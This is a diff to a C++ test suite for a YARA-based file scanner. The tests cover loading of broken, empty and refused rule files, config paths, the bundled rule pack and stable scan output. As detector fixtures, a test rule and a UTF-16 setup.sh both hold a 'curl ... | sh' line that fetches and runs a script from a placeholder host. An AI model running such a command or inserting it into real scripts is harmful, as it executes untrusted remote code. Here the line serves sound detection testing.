@@ -19,7 +19,6 @@ const char* kUserRule =
 const char* kBrokenRule =
     "rule broken_rule {\n  meta:\n    severity = \"high\"\n  condition:\n    true and and\n}\n";
 
-// Writes `text` as a user rule file in `configHome`/tarnwick/rules/.
 void writeUserRule(const fs::path& configHome, const std::string& fileName, const std::string& text)
 {
     fs::create_directories(configHome / "tarnwick" / "rules");
@@ -40,53 +39,42 @@ protected:
     TempDir m_tree;
 };
 
-TEST_F(RulesLoading, UserRuleUnderHomeWhenXdgConfigHomeIsUnset)
-{
-    ::unsetenv("XDG_CONFIG_HOME");
-    TempDir home;
-    const std::string oldHome = ::getenv("HOME") ? ::getenv("HOME") : "";
-    ::setenv("HOME", home.path().c_str(), 1);
-    writeUserRule(home / ".config", "mine.yara", kUserRule);
-    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
-    ::setenv("HOME", oldHome.c_str(), 1);
-    EXPECT_TRUE(std::any_of(r.events.begin(), r.events.end(),
-                            [](const Event& e) { return e.rule == "user_marker_file"; }))
-        << r.process.out << r.process.err;
-}
-
-// A broken file beside one that loads, one that names the same rule and one with a rule without a
-// proper severity (the unit tests hold the list of those): the check fails and names each, the scan
-// goes on with everything else. A user rule on the text view fires where the raw bytes do not hold its
-// text, its line carrying the rule's description and the file's line.
+// A broken file beside one that loads, an empty one, one that names the same rule and one with rules
+// without a proper severity: the check fails and names each, the scan goes on with everything else. A user
+// rule on the text view fires where the raw bytes do not hold its text, its line carrying the rule's
+// description and the file's line.
 TEST_F(RulesLoading, BrokenFilesAndRefusedRulesAreNamedAndSkipped)
 {
     writeUserRule(m_config.path(), "a-broken.yar", kBrokenRule);
     writeUserRule(m_config.path(), "b-good.yar", kUserRule);
     writeUserRule(m_config.path(), "c-same-name.yar", kUserRule);
+    writeUserRule(m_config.path(), "c-empty.yar", "");
     writeUserRule(m_config.path(), "d-refused.yar",
-                  "rule capitalised { meta: severity = \"High\" condition: filename == \"marker.txt\" }\n");
+                  "rule bare { meta: author = \"x\" condition: true }\n"
+                  "rule capitalised { meta: severity = \"High\" condition: true }\n"
+                  "rule padded { meta: severity = \"high \" condition: true }\n"
+                  "rule unknown_word { meta: severity = \"info\" condition: true }\n"
+                  "rule not_a_string { meta: severity = 3 condition: true }\n");
     writeUserRule(
         m_config.path(), "e-view.yar",
         "rule user_text { meta: severity = \"high\" description = \"fetches \\\"x\\\"\\nand runs it\" "
         "strings: $a = \"curl -fsSL https://e.example/x | sh\" condition: $a and view == \"text\" }\n");
     std::string utf16 = "\xFF\xFE";
-    for (char c : std::string("#!/bin/sh\r\ncurl -fsSL https://e.example/x | sh\r\n")) {
-        utf16 += c;
-        utf16 += '\0';
-    }
+    for (char c : std::string("#!/bin/sh\r\ncurl -fsSL https://e.example/x | sh\r\n"))
+        utf16 += std::string{c, '\0'};
     writeFile(m_tree / "setup.sh", utf16);
     const ScanResult check = runTwwatch({"--check-rules"});
     const std::string broken = (m_config / "tarnwick/rules/a-broken.yar").string();
     EXPECT_EQ(check.process.exitCode, 1);
     EXPECT_NE(check.process.err.find(broken + ":5: syntax error"), std::string::npos) << check.process.err;
-    EXPECT_NE(check.process.err.find("rule capitalised refused"), std::string::npos) << check.process.err;
+    for (const char* rule : {"bare", "capitalised", "padded", "unknown_word", "not_a_string"})
+        EXPECT_NE(check.process.out.find("  " + std::string(rule) + " (refused)\n"), std::string::npos)
+            << rule;
     EXPECT_NE(check.process.out.find(broken + ": not loaded"), std::string::npos) << check.process.out;
-    EXPECT_NE(check.process.out.find("  user_marker_file\n"), std::string::npos) << check.process.out;
-    EXPECT_NE(check.process.out.find("  git_hook_runs_payload\n"), std::string::npos) << check.process.out;
+    EXPECT_NE(check.process.out.find("c-empty.yar: 0 rules loaded"), std::string::npos) << check.process.out;
 
     const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
     EXPECT_EQ(r.process.exitCode, 0);
-    EXPECT_NE(r.process.err.find(broken), std::string::npos);
     std::multiset<std::string> found;
     for (const auto& e : r.events) {
         found.insert(e.rule + " " + e.severity);
@@ -101,7 +89,7 @@ TEST_F(RulesLoading, BrokenFilesAndRefusedRulesAreNamedAndSkipped)
 }
 
 // The bundled pack is found beside the executable through /proc/self/exe, wherever that is; without
-// it the check fails and nothing matches.
+// it the check fails.
 TEST_F(RulesLoading, BundledPackBesideTheExecutable)
 {
     TempDir install;
@@ -123,9 +111,6 @@ TEST_F(RulesLoading, BundledPackBesideTheExecutable)
     EXPECT_NE(none.process.err.find("no rule folder at " + (install / "bin/rules").string()),
               std::string::npos)
         << none.process.err;
-    const ScanResult empty = runTwwatch({"--scan", m_tree.path().string()}, install / "bin" / "twwatch");
-    EXPECT_EQ(empty.process.exitCode, 0);
-    EXPECT_TRUE(empty.events.empty()) << empty.process.out;
 }
 
 // FIFOs and devices are declined without blocking, a link loop is not followed, git's object store is
@@ -159,18 +144,22 @@ TEST_F(RulesLoading, ScanOfAHostileTreeEndsAndPrunes)
     EXPECT_EQ(relative.events[0].path, (m_tree / "scripts/deploy.sh").string());
 }
 
+// The user's rules are read from ~/.config when $XDG_CONFIG_HOME is unset.
 TEST_F(RulesLoading, ScanOutputIsTheSameOnEveryRun)
 {
+    ::unsetenv("XDG_CONFIG_HOME");
+    const std::string oldHome = ::getenv("HOME") ? ::getenv("HOME") : "";
+    ::setenv("HOME", m_config.path().c_str(), 1);
+    writeUserRule(m_config / ".config", "mine.yar", kUserRule);
     for (int i = 0; i < 300; ++i) {
         fs::create_directories(m_tree / ("pkg" + std::to_string(i % 17)));
         writeFile(m_tree / ("pkg" + std::to_string(i % 17)) / ("marker.txt"), "x");
         writeFile(m_tree / ("pkg" + std::to_string(i % 17)) / ("f" + std::to_string(i) + ".txt"), "x");
     }
-    writeUserRule(m_config.path(), "mine.yar", kUserRule);
     const ScanResult first = runTwwatch({"--scan", m_tree.path().string()});
     const ScanResult second = runTwwatch({"--scan", m_tree.path().string()});
-    for (const ScanResult* r : {&first, &second})
-        ASSERT_EQ(r->process.exitCode, 0) << r->process.err;
+    ::setenv("HOME", oldHome.c_str(), 1);
+    ASSERT_EQ(first.process.exitCode, 0) << first.process.err;
     EXPECT_EQ(first.events.size(), 19u);
     EXPECT_EQ(first.process.out, second.process.out) << second.process.err;
 }
